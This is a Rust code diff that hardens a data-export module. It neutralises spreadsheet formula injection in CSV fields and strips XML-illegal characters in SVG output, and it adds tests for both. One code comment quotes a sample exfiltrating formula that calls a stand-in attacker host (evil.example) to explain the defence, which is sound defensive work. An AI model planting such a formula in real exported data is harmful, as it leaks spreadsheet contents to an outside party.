@@ -8,12 +8,18 @@ use crate::layout::{CountryShape, MapLayout, AGAINST_MARK, AGAINST_MARK_RADIUS};
 use crate::model::FlowValue;
 use std::fmt::Write;
 
-/// Quotes a CSV field when it needs it (RFC 4180).
+/// Quotes a CSV field when it needs it (RFC 4180). A field a spreadsheet would run as a
+/// formula (it starts with `=`, `+`, `-`, `@`, a tab or a carriage return) is written after an
+/// apostrophe, which spreadsheets show as text: a dataset text such as
+/// `=HYPERLINK("https://evil.example/?"&A1)` must not become a live formula on a reader's
+/// machine. (The figures are never negative; the JSON download keeps every text as it is.)
 fn csv_field(s: &str) -> String {
+    let formula = s.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    let s = if formula { format!("'{s}") } else { s.to_string() };
     if s.contains([',', '"', '\n', '\r']) {
         format!("\"{}\"", s.replace('"', "\"\""))
     } else {
-        s.to_string()
+        s
     }
 }
 
@@ -88,9 +94,30 @@ pub fn json(dataset: &Dataset, visible: &[usize]) -> String {
     serde_json::to_string_pretty(&raw).unwrap_or_default()
 }
 
-/// Escapes text for XML.
+/// Escapes text for XML (element content and double-quoted attributes), and drops the
+/// characters XML 1.0 does not allow at all (C0 controls but tab and line breaks, U+FFFE,
+/// U+FFFF): a dataset text holding one would otherwise make the whole SVG unreadable.
+///
+/// # Examples
+/// ```
+/// use flowmap_core::export::xml_escape;
+/// assert_eq!(xml_escape("<a href=\"x\">&</a>"), "&lt;a href=&quot;x&quot;&gt;&amp;&lt;/a&gt;");
+/// assert_eq!(xml_escape("bell\u{7}\u{FFFE}\tok"), "bell\tok");
+/// ```
 pub fn xml_escape(s: &str) -> String {
-    s.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;")
+    let mut out = String::with_capacity(s.len());
+    for c in s.chars() {
+        match c {
+            '&' => out.push_str("&amp;"),
+            '<' => out.push_str("&lt;"),
+            '>' => out.push_str("&gt;"),
+            '"' => out.push_str("&quot;"),
+            '\t' | '\n' | '\r' => out.push(c),
+            '\u{0}'..='\u{1F}' | '\u{FFFE}' | '\u{FFFF}' => {}
+            _ => out.push(c),
+        }
+    }
+    out
 }
 
 /// Texts and legend entries printed around the map in an SVG export.
@@ -300,6 +327,17 @@ fn against_mark(s: &mut String, x: f64, y: f64, color: &str) {
 #[cfg(test)]
 mod test {
     use super::*;
+
+    #[test]
+    fn csv_defuses_formulas() {
+        assert_eq!(csv_field("=1+1"), "'=1+1");
+        assert_eq!(csv_field("@SUM(A1)"), "'@SUM(A1)");
+        assert_eq!(csv_field("-2+3"), "'-2+3");
+        assert_eq!(csv_field("\t=1"), "'\t=1");
+        assert_eq!(csv_field("=HYPERLINK(\"x\",\"y\")"), "\"'=HYPERLINK(\"\"x\"\",\"\"y\"\")\"");
+        assert_eq!(csv_field("a=1"), "a=1");
+        assert_eq!(csv_field("2023-07"), "2023-07");
+    }
 
     #[test]
     fn csv_quotes_what_needs_it_and_reads_back_the_ids() {
